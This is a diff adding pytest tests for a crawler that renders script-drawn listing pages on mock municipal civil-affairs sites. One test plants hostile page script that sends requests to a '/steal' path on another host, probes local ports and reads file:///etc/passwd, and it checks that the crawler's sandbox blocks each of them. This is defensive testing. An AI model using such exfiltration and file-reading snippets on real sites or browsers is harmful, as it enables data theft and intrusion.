@@ -9,7 +9,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from town import Page, Reply, Site, Town, article, html, links
+from town import Page, Reply, Site, Town, article, html, links, listing
 
 from crawler import browser, capture
 from crawler.capture import PageRow, Visit
@@ -110,3 +110,146 @@ def test_a_list_is_turned_to_its_end(site: Site, tmp_path: Path) -> None:
     seen = visited(site, tmp_path)
     assert (seen.articles(), seen.missed()) == (ALL, {})
     assert {path for path in seen.rows() if "#" in path} == {"/shjz/#drawn", "/shjz/#drawn-2", "/shjz/#drawn-3"}
+
+
+@needs_browser
+def test_a_list_that_grows_by_a_click_is_kept_once(site: Site, tmp_path: Path) -> None:
+    more = """<button onclick="grow()">加载更多</button><script>let page = 1, shown = [];
+    const keep = draw; draw = rows => keep(shown = shown.concat(rows));
+    function grow() { if (page > 3) return; load(page++); } grow();</script>"""
+    furnish(site, DRAW + more, THREE)
+    seen = visited(site, tmp_path)
+    assert (seen.articles(), seen.missed()) == (ALL, {})
+    assert [path for path in seen.rows() if "#" in path] == ["/shjz/#drawn"]
+
+
+@needs_browser
+def test_a_front_page_that_a_script_draws_leads_on(site: Site, tmp_path: Path) -> None:
+    furnish(site, listing(*[(f"/a/{one}.html", f"临时救助资金公示第{one}期", "2025-03-02") for one in range(1, 6)]))
+    shown = json.dumps(site.pages["/"])
+    site.pages["/"] = html("<div id=app></div>", "某市民政局", f"<script>addEventListener('load', () => {{document.body.innerHTML = {shown}}})</script>")  # fmt: skip
+    seen = visited(site, tmp_path)
+    assert len(seen.articles()) == 5
+    assert (seen.missed(), seen.rows()["/"].state, seen.visit.state, seen.visit.drawn) == ({}, "fetched", "complete", 1)
+
+
+@needs_browser
+def test_a_turn_that_fails_leaves_the_rest_of_the_list_unseen(site: Site, tmp_path: Path) -> None:
+    furnish(site, DRAW + PAGER, {**THREE, "/data/list3.json": Reply(b"{}", 500)})
+    seen = visited(site, tmp_path)
+    assert len(seen.articles()) == 20
+    assert seen.missed() == {"/shjz/#more": "script_list"}
+
+
+@needs_browser
+def test_entries_that_only_a_script_opens_stay_unseen(site: Site, tmp_path: Path) -> None:
+    rows = data(1, 6).replace("/a/", "javascript:show(").replace(".html", ")")
+    furnish(site, DRAW + "<script>load(1);</script>", {"/data/list1.json": rows})
+    seen = visited(site, tmp_path)
+    assert (seen.articles(), seen.missed()) == (set(), {"/shjz/#more": "script_list"})
+
+
+@needs_browser
+def test_a_script_reaches_nothing_that_the_registry_does_not_name(site: Site, tmp_path: Path) -> None:
+    with Town() as other:
+        stranger = other.site(1)  # the same host behind another port
+        stranger.pages["/steal"] = "{}"
+        asks = "".join(
+            f"try {{ {one} }} catch (e) {{}}"
+            for one in (
+                f"fetch('{stranger.url}steal').catch(e => 0);",
+                f"new WebSocket('{stranger.url.replace('http', 'ws')}steal');",
+                f"window.open('{stranger.url}steal');",
+                f"navigator.sendBeacon('{stranger.url}steal', 'x');",
+                "fetch('http://127.0.0.1:22/').catch(e => 0);",
+                "fetch('http://localhost:631/').catch(e => 0);",
+                "fetch('file:///etc/passwd').then(r => r.text()).then(t => document.title = t).catch(e => 0);",
+                f"document.body.insertAdjacentHTML('beforeend', '<iframe src=\"{stranger.url}steal\"></iframe><iframe src=\"file:///etc/passwd\"></iframe>');",
+            )
+        )
+        furnish(site, DRAW + f"<script>{asks} load(1);</script>", service((1, COUNT)))
+        seen = visited(site, tmp_path)
+        assert (seen.articles(), seen.missed(), dict(stranger.hits)) == (ALL, {}, {})
+    assert "root:" not in capture.read_body(seen.directory, seen.rows()["/shjz/#drawn"]).decode()
+    assert f"{stranger.url}steal was not asked for: not named in the registry" in seen.log()
+    assert "http://127.0.0.1:22/ was not asked for" in seen.log()
+
+
+@needs_browser
+def test_a_page_whose_script_is_redirected_outside_is_not_taken(site: Site, tmp_path: Path) -> None:
+    with Town() as other:
+        site.pages["/away"] = Reply(b"", 302, {"Location": other.site(1).url + "steal"})
+        furnish(site, DRAW + "<script>fetch('/away').catch(e => 0); load(1);</script>", service((1, COUNT)))
+        seen = visited(site, tmp_path)
+    assert (seen.articles(), seen.missed()) == (set(), {"/shjz/#more": "script_list"})
+    assert (seen.rows()["/shjz/#drawn"].state, seen.rows()["/shjz/#drawn"].reason) == ("skipped", "private_address")
+
+
+@needs_browser
+def test_a_script_keeps_to_robots_txt(site: Site, tmp_path: Path) -> None:
+    site.pages["/robots.txt"] = Reply(b"User-agent: *\nDisallow: /data/\n", headers={"Content-Type": "text/plain"})
+    furnish(site, DRAW + "<script>load(1);</script>", service((1, COUNT)))
+    seen = visited(site, tmp_path)
+    assert (seen.missed(), site.hits["/data/list1.json"]) == ({"/shjz/#more": "script_list"}, 0)
+
+
+@needs_browser
+@pytest.mark.parametrize(
+    ("script", "reason"),
+    [("while (true) {}", "timeout"), ("setInterval(() => fetch('/data/none.json'), 20)", "empty")],
+    ids=["computes for ever", "asks for ever"],
+)
+def test_a_script_without_end_leaves_a_miss_and_harms_no_other_page(site: Site, tmp_path: Path, script: str, reason: str) -> None:  # fmt: skip
+    furnish(site, DRAW + f"<script>{script}</script>", {**service((1, COUNT)), "/ylfw/": html(DRAW + "<script>load(1);</script>", "养老服务")})
+    site.pages["/"] = html(links(("/shjz/", "社会救助"), ("/ylfw/", "养老服务")), "某市民政局")
+    seen = visited(site, tmp_path)
+    assert (seen.articles(), seen.missed()) == (ALL, {"/shjz/#more": "script_list"})
+    assert seen.rows()["/shjz/#drawn"].reason == reason
+    assert site.hits["/data/none.json"] < 150
+
+
+@needs_browser
+def test_only_so_many_pages_are_drawn(site: Site, tmp_path: Path) -> None:
+    names = {"/shjz/": "社会救助", "/ylfw/": "养老服务", "/etfl/": "儿童福利"}
+    site.pages["/"] = html(links(*names.items()), "某市民政局")
+    furnish(site, "", service((1, 3)))
+    site.pages["/"] = html(links(*names.items()), "某市民政局")
+    site.pages |= {path: html(DRAW + "<script>load(1);</script>", name) for path, name in names.items()}
+    seen = visited(site, tmp_path, DRAWN_PAGES=2)
+    assert (seen.visit.drawn, list(seen.missed().values())) == (2, ["script_list"])
+
+
+@needs_browser
+def test_a_second_week_draws_again_and_changes_nothing(site: Site, tmp_path: Path) -> None:
+    furnish(site, DRAW + PAGER, THREE)
+    first = visited(site, tmp_path)
+    before = dict(site.hits)
+    second = visited(site, tmp_path, LATER)
+    assert site.hits["/data/list3.json"] == 2 * before["/data/list3.json"]
+    assert second.articles() == first.articles()
+    assert second.missed() == {}
+    rows = second.rows()
+    assert {rows[path].state for path in rows if "#drawn" in path} == {"unchanged"}
+
+
+@needs_browser
+def test_a_resumed_visit_takes_drawn_pages_from_its_capture(site: Site, tmp_path: Path) -> None:
+    furnish(site, DRAW + PAGER, THREE)
+    first = visited(site, tmp_path)
+    before, rows = dict(site.hits), first.rows()
+    (first.directory / capture.VISIT).unlink()
+    again = visited(site, tmp_path)
+    assert (again.rows(), again.missed(), again.visit.drawn) == (rows, {}, 1)
+    assert {path: count for path, count in site.hits.items() if path != "/robots.txt"} == {path: count for path, count in before.items() if path != "/robots.txt"}  # fmt: skip
+
+
+@pytest.mark.parametrize("way", ["no browser", "switched off", "never"])
+def test_without_a_browser_the_list_stays_unseen(site: Site, tmp_path: Path, way: str, monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
+    if way == "no browser":
+        monkeypatch.setenv("GONGKAI_CHROMIUM", "/nowhere/chromium")
+    if way == "switched off":
+        monkeypatch.setenv("GONGKAI_DRAWING", "off")
+    furnish(site, DRAW + PAGER, THREE)
+    seen = visited(site, tmp_path, override=Override(rendering="never" if way == "never" else ""))
+    assert (seen.missed(), seen.visit.drawn) == ({"/shjz/#more": "script_list"}, 0)
+    assert not [path for path in seen.rows() if "#drawn" in path]
